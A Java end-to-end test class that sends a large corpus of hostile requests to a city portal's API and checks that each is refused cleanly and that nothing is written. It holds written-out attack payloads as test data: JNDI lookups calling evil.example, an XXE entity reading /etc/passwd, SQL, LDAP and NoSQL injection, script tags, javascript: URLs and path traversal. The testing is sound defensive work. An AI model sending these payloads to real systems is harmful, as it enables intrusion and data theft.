package de.stadtportal.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import de.stadtportal.launcher.LocalPlatform;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestMethodOrder;
import tools.jackson.databind.JsonNode;

/**
 * A corpus of malformed and hostile requests against every public endpoint of SPEC §3, sent through
 * the gateway with an admin token, so that it is the input and never the caller that is judged.
 * Each answer must be no 5xx, and every non-2xx answer a problem document; afterwards the city the
 * corpus aimed at must be exactly as it was. Every hostile payload carries a marker word, so that a
 * write that slipped through would also be found by search.
 * <p>
 * No case is left out: those once left out for NUL, unpaired surrogates, coerced JSON scalars, years
 * beyond 9999, the firewall's empty answers and a chunked body over 256 KiB sent to an endpoint that
 * never reads its body are in the tables since they were fixed.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputIT {

    private static final String MARKER = "feindgut" + CityOfItsOwn.letters(6);
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
    private static final int OVER_LIMIT = 256 * 1024 + 1024;

    private static String gatewayUrl;
    private static Gateway gateway;
    private static PlatformIssuer issuer;
    private static CityOfItsOwn city;
    private static String c;
    private static String venueId;
    private static String eventId;
    private static String published;
    private static String draft;
    private static Snapshot before;
    private static final List<String> attemptedSlugs = new ArrayList<>();

    @BeforeAll
    static void aCityWithOneOfEverything() {
        LocalPlatform platform = RunningPlatform.get();
        gatewayUrl = platform.gatewayUrl();
        gateway = new Gateway(gatewayUrl);
        issuer = PlatformIssuer.of(RunningPlatform.home());
        city = CityOfItsOwn.create(gateway, issuer, "Feindstadt");
        c = city.slug();
        venueId = city.firstVenue("Bollwerk Halle");
        eventId = city.eventId("Bollwerk Abendkonzert", venueId);
        published = city.article("Bollwerk Chronik", "bollwerk-chronik", true);
        draft = city.article("Bollwerk Entwurf", "bollwerk-entwurf", false);
        Gateway.Answer carousel = gateway.send("PUT", "/api/cities/" + c + "/highlights", issuer.admin(),
                CityOfItsOwn.carousel("Bollwerk"), Map.of("If-Match", city.etag("/api/cities/" + c + "/highlights")));
        assertThat(carousel.status()).as(carousel.raw().body()).isEqualTo(200);
        before = Snapshot.take();
    }

    @Order(1)
    @TestFactory
    Stream<DynamicTest> every_hostile_request_gets_no_5xx_and_every_refusal_is_a_problem_document() {
        List<Hostile> corpus = corpus();
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(200);
        return corpus.stream().map(hostile -> dynamicTest(hostile.toString(), () -> judge(hostile)));
    }

    @Order(2)
    @Test
    void nothing_the_hostile_requests_carried_was_written() {
        Snapshot after = Snapshot.take();
        assertThat(after).isEqualTo(before);
        for (String slug : attemptedSlugs) {
            Gateway.Answer answer = gateway.send("GET", articles() + "/" + slug, issuer.admin(), null, Map.of());
            assertThat(answer.status()).as("draft " + slug + " (an editor sees drafts)").isEqualTo(404);
        }

        // What search holds comes through Kafka: once three sentinels, one per kind, written after
        // the corpus are found, anything the corpus wrote would be found with them.
        Set<String> sentinels = new TreeSet<>(List.of(
                city.venueId(MARKER + " Wachhaus"),
                city.eventId(MARKER + " Wachablösung", venueId),
                city.read(articles() + "/" + city.article(MARKER + " Wachbuch", MARKER + "-wachbuch", true))
                        .get("id").asString()));
        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500)).untilAsserted(() ->
                assertThat(foundByMarker()).containsAll(sentinels));
        assertThat(foundByMarker()).isEqualTo(sentinels);
    }

    // ---- the corpus

    private static List<Hostile> corpus() {
        List<Hostile> corpus = new ArrayList<>();
        String cityPath = "/api/cities/" + c;
        String article = articles() + "/" + published;
        String event = "/api/events/" + eventId;
        String venue = "/api/venues/" + venueId;

        // every JSON body endpoint: broken JSON, wrong shapes, wrong content types, oversized bodies
        corpus.addAll(malformedBodies("PUT", cityPath, Map.of("If-Match", () -> city.etag(cityPath))));
        corpus.addAll(malformedBodies("POST", articles(), Map.of()));
        corpus.addAll(malformedBodies("PUT", article, Map.of("If-Match", () -> city.etag(article))));
        corpus.addAll(malformedBodies("PUT", cityPath + "/highlights",
                Map.of("If-Match", () -> city.etag(cityPath + "/highlights"))));
        corpus.addAll(malformedBodies("POST", "/api/events", Map.of()));
        corpus.addAll(malformedBodies("PUT", event, Map.of("If-Match", () -> city.etag(event))));
        corpus.addAll(malformedBodies("POST", "/api/venues", Map.of()));
        corpus.addAll(malformedBodies("PUT", venue, Map.of("If-Match", () -> city.etag(venue))));

        // well-formed JSON with one hostile field each
        corpus.addAll(fields("POST", articles(), Map.of(), () -> {
            String slug = MARKER + "-" + attemptedSlugs.size();
            attemptedSlugs.add(slug);
            return city.article(MARKER + " Artikel", slug);
        }, ARTICLE_FIELDS));
        corpus.addAll(fields("PUT", article, Map.of("If-Match", () -> city.etag(article)),
                () -> city.article(MARKER + " Chronik", published), ARTICLE_UPDATE_FIELDS));
        corpus.addAll(fields("PUT", cityPath, Map.of("If-Match", () -> city.etag(cityPath)),
                HostileInputIT::portrait, CITY_FIELDS));
        corpus.addAll(fields("PUT", cityPath + "/highlights", Map.of("If-Match", () -> city.etag(cityPath + "/highlights")),
                () -> CityOfItsOwn.carousel(MARKER), HIGHLIGHT_FIELDS));
        corpus.addAll(fields("POST", "/api/events", Map.of(), () -> city.event(MARKER + " Konzert", venueId),
                EVENT_FIELDS));
        corpus.addAll(fields("PUT", event, Map.of("If-Match", () -> city.etag(event)),
                () -> city.event(MARKER + " Konzert", venueId), EVENT_UPDATE_FIELDS));
        corpus.addAll(fields("POST", "/api/venues", Map.of(), () -> city.venue(MARKER + " Halle"), VENUE_FIELDS));
        corpus.addAll(fields("PUT", venue, Map.of("If-Match", () -> city.etag(venue)),
                () -> city.venue(MARKER + " Halle"), VENUE_UPDATE_FIELDS));
        corpus.addAll(fields("POST", articles() + "/" + draft + "/publication", Map.of(), LinkedHashMap::new,
                PUBLICATION_FIELDS));

        // publication, cancellation and deletion take no body worth judging: hostile paths and headers
        for (String target : List.of(draft + "/publication", published + "/publication", published)) {
            String method = target.equals(draft + "/publication") ? "POST" : "DELETE";
            corpus.add(refused(method, articles() + "/" + target + "?locale=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
                    "a JNDI lookup as locale"));
            corpus.add(refused(method, articles() + "/" + target, "a made-up If-Match")
                    .header("If-Match", "\"" + MARKER + "\""));
            corpus.add(refused(method, articles() + "/" + target, "an oversized body")
                    .body("application/json", oversizedJson()));
        }
        for (String step : List.of("/cancellation", "")) {
            String method = step.isEmpty() ? "DELETE" : "POST";
            corpus.add(refused(method, event + step, "a made-up If-Match").header("If-Match", "W/\"0\""));
            corpus.add(refused(method, event + step, "an oversized body").body("application/json", oversizedJson()));
            for (Map.Entry<String, String> id : HOSTILE_IDS.entrySet()) {
                corpus.add(refused(method, "/api/events/" + id.getValue() + step, "the event id " + id.getKey()));
            }
        }
        for (Map.Entry<String, String> id : HOSTILE_IDS.entrySet()) {
            corpus.add(refused("PUT", "/api/venues/" + id.getValue(), "the venue id " + id.getKey())
                    .body("application/json", json(city.venue(MARKER + " Halle"))));
            corpus.add(refused("GET", "/api/venues/" + id.getValue(), "the venue id " + id.getKey()));
            corpus.add(refused("GET", "/api/events/" + id.getValue(), "the event id " + id.getKey()));
        }

        // the admin's reindex: nothing to parse, but no other method and no oversized body
        corpus.add(refused("POST", "/api/search/reindex", "an oversized body").body("application/json", oversizedJson()));
        corpus.add(refused("POST", "/api/search/reindex", "an oversized chunked body").chunked("application/json", oversizedJson()));

        corpus.addAll(wrongMethods(cityPath, article, event, venue));
        corpus.addAll(queries(cityPath, article, event));
        return corpus;
    }

    /** The same broken bodies for every endpoint that reads JSON. */
    private static List<Hostile> malformedBodies(String method, String path, Map<String, Header> headers) {
        byte[] notUtf8 = {'{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'};
        List<Hostile> cases = new ArrayList<>(List.of(
                refused(method, path, "JSON cut off").body("application/json", "{\"title\": \"" + MARKER),
                refused(method, path, "a JSON array").body("application/json", "[]"),
                refused(method, path, "a JSON string").body("application/json", "\"" + MARKER + "\""),
                refused(method, path, "a JSON number").body("application/json", "1e999999"),
                refused(method, path, "JSON null").body("application/json", "null"),
                refused(method, path, "an empty body").body("application/json", ""),
                refused(method, path, "5,000 nested arrays").body("application/json",
                        "[".repeat(5000) + "]".repeat(5000)),
                refused(method, path, "bytes that are not UTF-8").body("application/json", notUtf8),
                refused(method, path, "a JSON body as text/plain").body("text/plain", "{\"title\":\"" + MARKER + "\"}"),
                refused(method, path, "an XML body").body("application/xml",
                        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
                refused(method, path, "a form").body("application/x-www-form-urlencoded", "title=" + MARKER),
                refused(method, path, "a body without a content type").body(null, "{\"title\":\"" + MARKER + "\"}"),
                refused(method, path, "a body over 256 KiB").body("application/json", oversizedJson()),
                refused(method, path, "a chunked body over 256 KiB").chunked("application/json", oversizedJson())));
        cases.replaceAll(hostile -> hostile.headers(headers));
        return cases;
    }

    // text no store can keep, and a year no store can keep
    private static final String NUL = "\"" + MARKER + " \\u0000 Nullbyte\"";
    private static final String LONE_SURROGATE = "\"" + MARKER + " \\ud800 halbes Zeichen\"";
    private static final String FAR_FUTURE = "\"+999999999-12-31T23:59:59+18:00\"";

    /** Hostile values of article fields: field (a dotted path), JSON value, what it is. */
    private static final List<Field> ARTICLE_FIELDS = List.of(
            new Field("title", "{}", "an object"),
            new Field("title", "[\"" + MARKER + "\"]", "an array"),
            new Field("title", "\"  \"", "blank"),
            new Field("title", "\"" + "x".repeat(201) + "\"", "201 characters"),
            new Field("title", NUL, "with NUL"),
            new Field("title", LONE_SURROGATE, "a lone surrogate"),
            new Field("title", "42", "a number"),
            new Field("title", "true", "a boolean"),
            new Field("topic", "\"<script>alert(1)</script>\"", "a script tag"),
            new Field("topic", "\"' OR '1'='1' --\"", "SQL injection"),
            new Field("locale", "\"${jndi:ldap://evil.example/a}\"", "a JNDI lookup"),
            new Field("locale", "\"de\\u202e\"", "with an RTL override"),
            new Field("slug", "\"../../etc/passwd\"", "path traversal"),
            new Field("slug", "\"a\\u200bb\"", "with a zero-width space"),
            new Field("slug", "\"*)(uid=*))(|(uid=*\"", "LDAP injection"),
            new Field("slug", "\"\\ud83c\\udf89\"", "an emoji"),
            new Field("slug", "\"" + "a".repeat(121) + "\"", "121 characters"),
            new Field("publishAt", "\"2027-02-30T10:00:00+01:00\"", "the 30th of February"),
            new Field("publishAt", "\"morgen früh\"", "words"),
            new Field("publishAt", "\"2027-03-20T25:61:00+01:00\"", "25:61 o'clock"),
            new Field("publishAt", FAR_FUTURE, "year 999999999"),
            new Field("publishAt", "1e300", "a huge number"),
            new Field("tags", "\"" + MARKER + "\"", "a string, not a list"),
            new Field("tags", "[null]", "a list with null"),
            new Field("tags", repeat("\"t\"", 21), "21 tags"),
            new Field("heroImage", "\"https://example.org/a.jpg\"", "a string, not an image"),
            new Field("heroImage.url", "\"javascript:alert(document.cookie)\"", "a javascript: URL"),
            new Field("heroImage.url", "\"data:text/html,<script>alert(1)</script>\"", "a data: URL"),
            new Field("summary", "\"" + "s".repeat(2001) + "\"", "2,001 characters"));

    private static final List<Field> ARTICLE_UPDATE_FIELDS = List.of(
            new Field("title", "{\"$ne\": null}", "a NoSQL operator"),
            new Field("topic", "\"${7*7}\"", "a template expression"),
            new Field("slug", "\"" + MARKER + "-anders\"", "another slug than the path's"),
            new Field("locale", "\"en\"", "another locale than the article's"),
            new Field("publishAt", "\"2027-13-01T00:00:00Z\"", "month 13"),
            new Field("tags", "[\"" + "t".repeat(41) + "\"]", "a tag of 41 characters"));

    private static final List<Field> CITY_FIELDS = List.of(
            new Field("name", "\"\"", "empty"),
            new Field("name", "{\"de\": \"" + MARKER + "\"}", "an object"),
            new Field("name", NUL, "with NUL"),
            new Field("facts", "[\"" + MARKER + "\"]", "a list, not a map"),
            new Field("facts", facts(31), "31 facts"),
            new Field("neighbours", "[\"../bochum\"]", "path traversal"),
            new Field("neighbours", "[\"<img src=x onerror=alert(1)>\"]", "an HTML tag"),
            new Field("heroImage.url", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("intro", "\"" + "i".repeat(5001) + "\"", "5,001 characters"));

    private static final List<Field> HIGHLIGHT_FIELDS = List.of(
            new Field("items", "{}", "an object, not a list"),
            new Field("items", "[null]", "a list with null"),
            new Field("items", repeat(carouselItem(), 21), "21 teasers"),
            new Field("items.0.link.kind", "\"javascript\"", "an unknown link kind"),
            new Field("items.0.link.target", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("items.0.link.target", "\"\"", "empty"),
            new Field("items.0.image.url", "\"file:///etc/passwd\"", "a file: URL"),
            new Field("items.0.validFrom", "\"2027-02-29T00:00:00+01:00\"", "the 29th of February 2027"),
            new Field("items.0.validFrom", FAR_FUTURE, "year 999999999"),
            new Field("items.0.validUntil", "1e300", "a huge number"),
            new Field("items.0.title", NUL, "with NUL"),
            new Field("items.0.title", "\"" + "t".repeat(201) + "\"", "201 characters"));

    private static final List<Field> EVENT_FIELDS = List.of(
            new Field("title", "\"\"", "empty"),
            new Field("title", "[\"" + MARKER + "\"]", "an array"),
            new Field("title", NUL, "with NUL"), new Field("description", NUL, "with NUL"),
            new Field("title", "12", "a number"), new Field("start", "1e300", "a huge number"),
            new Field("start", "\"2027-02-30T19:00:00+01:00\"", "the 30th of February"),
            new Field("start", "\"2027-03-20T19:00:00\"", "without offset"),
            new Field("start", FAR_FUTURE, "year 999999999"),
            new Field("end", "\"2020-01-01T00:00:00+01:00\"", "before the start"),
            new Field("category", "\"<script>alert(1)</script>\"", "a script tag"),
            new Field("category", "\"konzert'; DROP TABLE event; --\"", "SQL injection"),
            new Field("venueId", "\"not-a-uuid\"", "not a UUID"),
            new Field("venueId", "\"00000000-0000-0000-0000-000000000000\"", "an unknown venue"),
            new Field("city", "\"bochum\"", "another city than the venue's"),
            new Field("city", "\"../bochum\"", "path traversal"),
            new Field("price.min", "-1", "negative"),
            new Field("price.min", "1e309", "beyond double"),
            new Field("price.free", "\"vielleicht\"", "not a boolean"),
            new Field("recurrence", "{\"rrule\": \"FREQ=SECONDLY;COUNT=100000000\", \"exdates\": []}",
                    "a hundred million seconds"),
            new Field("recurrence", "{\"rrule\": \"${jndi:ldap://evil.example/a}\", \"exdates\": []}", "a JNDI lookup"),
            new Field("recurrence.exdates", "[\"gestern\"]", "words as exception date"),
            new Field("ticketUrl", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("allDay", "\"yes\"", "not a boolean"),
            new Field("accessibility", "\"wheelchair\"", "a string, not a list"),
            new Field("image", "{\"url\": \"ftp://example.org/x.jpg\"}", "an ftp: URL"));

    private static final List<Field> EVENT_UPDATE_FIELDS = List.of(
            new Field("start", "\"20270320T190000Z\"", "basic ISO format"),
            new Field("category", "\"\\u202ekonzert\"", "an RTL override"),
            new Field("venueId", "12345", "a number"),
            new Field("price", "\"free\"", "a string, not a price"),
            new Field("city", "\"\\ud83c\\udf89\"", "an emoji"));

    private static final List<Field> VENUE_FIELDS = List.of(
            new Field("name", "\"\"", "empty"),
            new Field("name", "{}", "an object"),
            new Field("name", "42", "a number"),
            new Field("geo.lat", "91", "north of the pole"),
            new Field("geo.lon", "-180.5", "west of the date line"),
            new Field("geo.lat", "1e999", "beyond double"),
            new Field("geo.lat", "\"51,48\"", "text with a comma"),
            new Field("geo", "[51.48, 7.22]", "a list, not a point"),
            new Field("address.postalCode", "{}", "an object"),
            new Field("url", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("city", "\"atlantis\"", "an unknown city"),
            new Field("city", "\"' OR 1=1 --\"", "SQL injection"),
            new Field("accessibility", "{\"wheelchair\": true}", "an object, not a list"),
            new Field("accessibility", "[1, 2, 3]", "numbers"));

    private static final List<Field> VENUE_UPDATE_FIELDS = List.of(
            new Field("city", "\"bochum\"", "moving the venue to another city without right to"),
            new Field("geo.lon", "\"NaN\"", "NaN"),
            new Field("address", "\"Marienplatz 1\"", "a string, not an address"));

    private static final List<Field> PUBLICATION_FIELDS = List.of(
            new Field("publishAt", "\"2027-02-30T10:00:00+01:00\"", "the 30th of February"),
            new Field("publishAt", "\"nächsten Dienstag\"", "words"),
            new Field("publishAt", "[]", "a list"),
            new Field("publishAt", "\"2027-03-20\"", "a date without time"),
            new Field("publishAt", FAR_FUTURE, "year 999999999"),
            new Field("publishAt", "12", "a number"));

    /** Ids no resource has; none may reach a database query that fails. */
    private static final Map<String, String> HOSTILE_IDS = orderedMap(
            "not a UUID", "not-a-uuid",
            "in upper case", "00000000-0000-0000-0000-00000000000A",
            "SQL injection", "1%27%20OR%20%271%27%3D%271",
            "an RTL override", "%E2%80%AE" + "a1b2",
            "an emoji", "%F0%9F%8E%89",
            "a lone surrogate (CESU-8)", "%ED%A0%80",
            "overlong UTF-8 dots", "%c0%ae%c0%ae%c0%af",
            "a template expression", "%24%7B7*7%7D",
            "encoded path traversal", "..%2f..%2fetc%2fpasswd",
            "encoded dots", "%2e%2e",
            "a semicolon", "..;",
            "NUL", "%00");

    private static List<Hostile> wrongMethods(String cityPath, String article, String event, String venue) {
        return List.of(
                refused("PATCH", cityPath, "PATCH on a city").body("application/json", "{\"name\":\"" + MARKER + "\"}"),
                refused("DELETE", cityPath, "DELETE on a city"),
                refused("POST", "/api/cities", "POST on the cities").body("application/json", json(portrait())),
                refused("DELETE", "/api/cities", "DELETE on the cities"),
                refused("POST", cityPath + "/highlights", "POST on highlights")
                        .body("application/json", json(CityOfItsOwn.carousel(MARKER))),
                refused("DELETE", cityPath + "/highlights", "DELETE on highlights"),
                refused("DELETE", articles(), "DELETE on all articles"),
                refused("PATCH", article, "PATCH on an article").body("application/json", "{\"title\":\"" + MARKER + "\"}"),
                refused("PUT", article + "/publication", "PUT on a publication"),
                refused("GET", article + "/publication", "GET on a publication"),
                refused("POST", article + "/revisions", "POST on revisions"),
                refused("PUT", "/api/events", "PUT on all events").body("application/json", "{}"),
                refused("DELETE", "/api/events", "DELETE on all events"),
                refused("PATCH", event, "PATCH on an event").body("application/json", "{\"title\":\"" + MARKER + "\"}"),
                refused("PUT", event + "/cancellation", "PUT on a cancellation"),
                refused("GET", event + "/cancellation", "GET on a cancellation"),
                refused("POST", "/api/events/feed.ics", "POST on the feed"),
                refused("POST", "/api/events/categories", "POST on the categories").body("application/json", "{}"),
                refused("DELETE", "/api/venues", "DELETE on all venues"),
                refused("PATCH", venue, "PATCH on a venue").body("application/json", "{\"name\":\"" + MARKER + "\"}"),
                refused("POST", "/api/search", "POST on search").body("application/json", "{\"q\":\"x\"}"),
                refused("DELETE", "/api/search/suggest", "DELETE on suggest"),
                refused("PUT", "/api/search/reindex", "PUT on reindex"),
                refused("DELETE", "/api/search/reindex", "DELETE on reindex"),
                refused("POST", cityPath + "/home", "POST on the home aggregate"),
                refused("DELETE", cityPath + "/home", "DELETE on the home aggregate"),
                refused("TRACE", cityPath, "TRACE on a city"));
    }

    /** Query parameters: refused when they are not what the parameter takes, answered when they are only odd text. */
    private static List<Hostile> queries(String cityPath, String article, String event) {
        String garbageCursor = "%E2%98%83%E2%98%83";
        String foreignCursor = Base64.getUrlEncoder().withoutPadding()
                .encodeToString("c1\u001f' OR 1=1 --\u001fnot-a-uuid".getBytes(StandardCharsets.UTF_8));
        String nanCursor = Base64.getUrlEncoder().withoutPadding()
                .encodeToString("c1\u001fNaN\u001farticle\u001fx".getBytes(StandardCharsets.UTF_8));
        List<Hostile> cases = new ArrayList<>();
        for (String list : List.of("/api/cities", articles(), article + "/revisions", "/api/events",
                "/api/venues?city=" + c, "/api/search?q=Konzert")) {
            String join = list.contains("?") ? "&" : "?";
            for (String limit : List.of("-1", "0", "101", "1e9", "99999999999999999999", "zehn")) {
                cases.add(refused("GET", list + join + "limit=" + limit, "limit=" + limit));
            }
            cases.add(refused("GET", list + join + "cursor=" + garbageCursor, "a cursor of snowmen"));
            cases.add(refused("GET", list + join + "cursor=" + foreignCursor, "a cursor with SQL inside"));
        }
        cases.add(refused("GET", "/api/search?q=Konzert&cursor=" + nanCursor, "a cursor with NaN as score"));
        cases.add(refused("GET", "/api/cities/atlantis", "an unknown city"));
        cases.add(refused("GET", "/api/cities/%F0%9F%8E%89", "an emoji as city"));
        cases.add(refused("GET", "/api/cities/%3Cscript%3E/home", "a script tag as city of the home"));
        cases.add(refused("GET", "/api/cities/atlantis/home", "an unknown city's home"));
        cases.add(refused("GET", articles() + "/%E2%80%AEeinhcorhc", "an RTL override as slug"));
        cases.add(refused("GET", article + "?locale=%24%7B7*7%7D", "a template expression as locale"));
        cases.add(refused("GET", articles() + "?topic=%3Cscript%3E", "a script tag as topic"));
        cases.add(refused("GET", articles() + "?tag=" + "t".repeat(41), "a tag of 41 characters"));
        cases.add(refused("GET", articles() + "?tag=%00", "NUL as tag"));
        cases.add(refused("GET", articles() + "?status=archiviert", "an unknown status"));
        cases.add(refused("GET", articles() + "?status=%27%20OR%201%3D1%20--", "SQL as status"));
        cases.add(refused("GET", "/api/events?city=%00", "NUL as the events' city"));
        cases.add(refused("GET", "/api/events/feed.ics?city=%00", "NUL as the feed's city"));
        cases.add(refused("GET", "/api/venues?city=%00", "NUL as the venues' city"));
        cases.add(refused("GET", "/api/cities?cursor=YzEfAA", "a cursor holding NUL"));
        for (String events : List.of("near=999,999", "near=NaN,NaN", "near=1e400,7", "near=abc", "near=51.4",
                "radiusKm=5", "near=51.4,7.2&radiusKm=-5", "near=51.4,7.2&radiusKm=1e9", "from=2027-02-30",
                "from=2027-03-01&to=2027-02-01", "from=2000-01-01&to=2099-01-01", "from=gestern",
                "category=%3Cscript%3E", "venue=not-a-uuid", "free=vielleicht", "accessible=1")) {
            cases.add(refused("GET", "/api/events?" + events, events));
        }
        cases.add(refused("GET", "/api/events?from=%2B999999999-12-31T23:59:59%2B18:00", "from in year 999999999"));
        cases.add(refused("GET", "/api/events/feed.ics?category=%3Cscript%3E", "a script tag as category of the feed"));
        for (String search : List.of("q=" + "x".repeat(201), "type=everything", "type=article,%3Cscript%3E",
                "city=%27%20OR%201%3D1", "topic=%24%7B7*7%7D", "category=..%2F..", "from=2027-02-30", "to=gestern",
                "from=2027-03-01&to=2027-02-01", "city=" + cities(21))) {
            cases.add(refused("GET", "/api/search?" + search, search));
        }
        cases.add(refused("GET", "/api/search?from=%2B999999999-12-31T23:59:59%2B18:00", "search from year 999999999"));
        cases.add(refused("GET", "/api/search?to=%2B999999999-12-31", "search to year 999999999"));
        cases.add(refused("GET", "/api/search/suggest?q=" + "x".repeat(201), "suggest with 201 characters"));
        cases.add(refused("GET", "/api/search/suggest?q=Kon&city=%3Cscript%3E", "suggest in a script tag city"));

        // odd text where text is welcome: answered (200), never a 5xx
        for (String q : List.of("%27%20OR%20%271%27%3D%271%27%20--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "%24%7B7*7%7D", "*%29%28uid%3D*%29%29%28%7C%28uid%3D*",
                "%E2%80%AEtrezno%E2%80%AC", "Kon%E2%80%8Bzert", "%F0%9F%8E%89%F0%9F%8E%B6", "%ED%A0%80", "%00",
                "a%20%26%20%7C%20!%20(%20)%20%3A*", "%5C", "%22%22%22", "!!!", "%3A*", "%25", "%E2%80%8B")) {
            cases.add(answered("GET", "/api/search?q=" + q, "search for " + q));
            cases.add(answered("GET", "/api/search/suggest?q=" + q, "suggest for " + q));
        }
        for (String odd : List.of("%27%20OR%201%3D1%20--", "%3Cscript%3E", "%F0%9F%8E%89")) {
            cases.add(answered("GET", "/api/events?city=" + odd, "events in the city " + odd));
            cases.add(answered("GET", "/api/events/feed.ics?city=" + odd, "the feed of the city " + odd));
            cases.add(answered("GET", "/api/venues?city=" + odd, "venues in the city " + odd));
            cases.add(answered("GET", articles() + "?tag=" + odd, "articles tagged " + odd));
        }
        cases.add(answered("GET", cityPath + "/home", "an If-None-Match of garbage").header("If-None-Match", "W/\"\", garbage"));
        cases.add(answered("GET", event, "a client that takes only XML").header("Accept", "application/xml"));
        cases.add(answered("GET", event, "an Accept of garbage").header("Accept", "text/html, */*;q=0.1"));
        cases.add(answered("GET", "/api/events/categories?x=%00", "categories with NUL in an unknown parameter"));
        return cases;
    }

    // ---- judging

    private static void judge(Hostile hostile) throws IOException, InterruptedException {
        HttpResponse<String> response = send(hostile);
        int status = response.statusCode();
        String contentType = response.headers().firstValue("Content-Type").orElse("");
        String body = response.body();

        assertThat(status).as("%s answered %d: %s", hostile, status, body).isLessThan(500)
                .as("rate limited: the corpus would judge the caller, not the input").isNotEqualTo(429);
        if (hostile.refused()) {
            assertThat(status).as("%s answered %d: %s", hostile, status, body).isBetween(400, 499);
        }
        assertThat(status).as("%s is sent by an admin, so the token cannot be what is refused: %s", hostile, body)
                .isNotIn(401, 403);
        if (hostile.headers().containsKey("If-Match") && !hostile.what().contains("If-Match")) {
            assertThat(status).as("%s is sent with the current ETag: %s", hostile, body).isNotIn(412, 428);
        }
        assertThat(body).as("no stack trace").doesNotContain(".java:").doesNotContain("\tat ");
        if (status >= 300) {
            assertThat(contentType).as("%s answered %d with %s: %s", hostile, status, contentType, body)
                    .startsWith("application/problem+json");
            JsonNode problem = Gateway.JSON.readTree(body);
            assertThat(problem.path("status").asInt()).as(body).isEqualTo(status);
            assertThat(problem.path("title").asString()).as(body).isNotBlank();
            assertThat(problem.path("detail").isString()).as(body).isTrue();
        }
    }

    /** Through the e2e client, which holds each answer (not the request, broken on purpose) to the API documents. */
    private static HttpResponse<String> send(Hostile hostile) {
        Map<String, String> headers = new LinkedHashMap<>();
        hostile.headers().forEach((name, value) -> headers.put(name, value.value()));
        return gateway.sendHostile(hostile.method(), hostile.path(), issuer.admin(), hostile.contentType(), hostile.body(),
                hostile.chunked(), headers).raw();
    }

    // ---- what "nothing was written" compares

    /** What the corpus aimed at, read through the public API. */
    record Snapshot(int cities, JsonNode portrait, long articleVersion, String articleStatus, int revisions,
            long draftVersion, String draftStatus, List<String> publishedArticles, JsonNode highlights,
            long eventVersion, String eventStatus, List<String> occurrences, long venueVersion, List<String> venues,
            long reindexGeneration) {

        static Snapshot take() {
            JsonNode article = city.read(articles() + "/" + published);
            JsonNode draftArticle = city.read(articles() + "/" + draft);
            JsonNode event = city.read("/api/events/" + eventId);
            return new Snapshot(
                    countCities(),
                    city.read("/api/cities/" + c),
                    article.path("version").asLong(), article.path("status").asString(),
                    city.read(articles() + "/" + published + "/revisions?limit=100").path("items").size(),
                    draftArticle.path("version").asLong(), draftArticle.path("status").asString(),
                    ids(city.read(articles() + "?limit=100"), "id"),
                    city.read("/api/cities/" + c + "/highlights"),
                    event.path("version").asLong(), event.path("status").asString(),
                    ids(city.read("/api/events?city=" + c + "&limit=100"), "eventId"),
                    city.read("/api/venues/" + venueId).path("version").asLong(),
                    ids(city.read("/api/venues?city=" + c + "&limit=100"), "id"),
                    city.read("/api/search/reindex").path("generation").asLong());
        }

        private static int countCities() {
            int count = 0;
            String next = null;
            do {
                JsonNode page = city.read("/api/cities?limit=100" + (next == null ? "" : "&cursor=" + next));
                count += page.path("items").size();
                next = page.path("next").isString() ? page.path("next").asString() : null;
            } while (next != null);
            return count;
        }

        private static List<String> ids(JsonNode page, String field) {
            List<String> ids = new ArrayList<>();
            page.path("items").forEach(item -> ids.add(item.path(field).asString()));
            return ids;
        }
    }

    private static Set<String> foundByMarker() {
        Set<String> ids = new TreeSet<>();
        city.read("/api/search?q=" + MARKER + "&limit=100").path("hits").forEach(hit -> ids.add(hit.path("id").asString()));
        return ids;
    }

    // ---- the table's vocabulary

    /** A header value made when the case is sent (an ETag as it is then). */
    @FunctionalInterface
    interface Header {
        String value();
    }

    /** One hostile value for one field of an otherwise valid body; {@code path} is dotted, list indexes as numbers. */
    record Field(String path, String json, String what) {
    }

    record Hostile(String method, String path, String what, String contentType, byte[] body, boolean chunked,
            Map<String, Header> headers, boolean refused) {

        Hostile body(String type, String text) {
            return body(type, text.getBytes(StandardCharsets.UTF_8));
        }

        Hostile body(String type, byte[] bytes) {
            return new Hostile(method, path, what, type, bytes, false, headers, refused);
        }

        Hostile chunked(String type, String text) {
            return new Hostile(method, path, what, type, text.getBytes(StandardCharsets.UTF_8), true, headers, refused);
        }

        Hostile header(String name, String value) {
            return headers(Map.of(name, () -> value));
        }

        Hostile headers(Map<String, Header> more) {
            Map<String, Header> all = new LinkedHashMap<>(headers);
            all.putAll(more);
            return new Hostile(method, path, what, contentType, body, chunked, all, refused);
        }

        @Override
        public String toString() {
            String shown = path.length() > 110 ? path.substring(0, 110) + "…" : path;
            return method + " " + shown.replace(MARKER, "{marker}").replace(c, "{city}") + " with " + what;
        }
    }

    private static Hostile refused(String method, String path, String what) {
        return new Hostile(method, path, what, null, null, false, Map.of(), true);
    }

    private static Hostile answered(String method, String path, String what) {
        return new Hostile(method, path, what, null, null, false, Map.of(), false);
